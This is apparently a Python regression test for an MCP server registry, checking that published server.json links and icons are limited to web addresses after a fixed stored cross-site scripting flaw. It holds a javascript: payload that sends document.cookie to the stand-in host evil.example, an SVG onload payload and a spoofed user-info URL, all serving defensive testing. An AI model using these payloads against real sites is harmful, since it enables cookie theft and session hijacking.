"""Attack: the links a published ``server.json`` carries are what clients' galleries (VS Code's
MCP view and others reading ``/v0``) show as links and images: ``websiteUrl``, ``repository.url``
and each icon's ``src``. ``POST /api/entries`` stored a requester's ``server_json`` as sent and
its ``repository`` as any text, so an entry published ``"websiteUrl": "javascript:…"``, a
``repository.url`` of ``javascript:…`` and an icon of ``data:image/svg+xml,<svg onload=…>``,
which a client renders as a link or image that runs the requester's script (or, for any scheme
but the web's, opens what the requester chose) once a reviewer approved the package, until
2026-12-05. Now only web addresses (``http``/``https``) are published as links, and only
``https`` icons (as the server.json schema asks), with no user name before the host
(``https://acme.example@evil.example/`` reads as acme's); anything else is left out of ``/v0``,
the API's ``server.json`` and the entry page's "What clients run"."""

from __future__ import annotations

from typing import Any

import httpx
from test_registry_published_identity import _published

from mcpward.registry import Registry, Role

_SCRIPT = "javascript:fetch('https://evil.example/?'+document.cookie)"
_SVG = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
_FILES = {
    "registryType": "npm",
    "identifier": "@acme/files",
    "version": "1.0.0",
    "transport": {"type": "stdio"},
}


def _links(document: dict[str, Any]) -> list[str]:
    links = [document.get("websiteUrl"), (document.get("repository") or {}).get("url")]
    links += [icon.get("src") for icon in document.get("icons", []) if isinstance(icon, dict)]
    return [link for link in links if isinstance(link, str)]


def test_an_entry_publishes_no_script_or_data_link(registry: Registry, live_server: str) -> None:
    requester = {"Authorization": f"Bearer {registry.create_token('mallory', Role.REQUESTER, 'setup')}"}
    body = {
        "name": "io.github.acme/files",
        "identity": {"kind": "package", "ecosystem": "npm", "name": "@acme/files", "version": "1.0.0"},
        "owner": "team-platform",
        "repository": _SCRIPT,
        "server_json": {
            "name": "io.github.acme/files",
            "version": "1.0.0",
            "description": "Files.",
            "websiteUrl": " JavaScript:alert(1)",
            "repository": {"url": _SCRIPT, "source": "github"},
            "icons": [
                {"src": _SVG, "mimeType": "image/svg+xml"},
                {"src": "https://acme.example@evil.example/pixel.png"},
                {"src": "https://acme.example/icon.png"},
            ],
            "packages": [_FILES],
        },
    }
    created = httpx.post(f"{live_server}/api/entries", json=body, headers=requester, timeout=30)
    assert created.status_code == 201, created.text
    for document in _published(registry, live_server, created.json()["id"]):
        assert _links(document) == ["https://acme.example/icon.png"]


def test_web_links_are_still_published(registry: Registry, live_server: str) -> None:
    requester = {"Authorization": f"Bearer {registry.create_token('alice', Role.REQUESTER, 'setup')}"}
    document = {
        "name": "io.github.acme/files",
        "version": "1.0.0",
        "description": "Files.",
        "websiteUrl": "https://files.acme.example",
        "repository": {"url": "https://github.com/acme/files", "source": "github"},
        "packages": [_FILES],
    }
    imported = httpx.post(
        f"{live_server}/api/import?owner=team-platform", json=document, headers=requester, timeout=30
    )
    assert imported.status_code == 201, imported.text
    for published in _published(registry, live_server, imported.json()[0]["id"]):
        assert _links(published) == ["https://files.acme.example", "https://github.com/acme/files"]
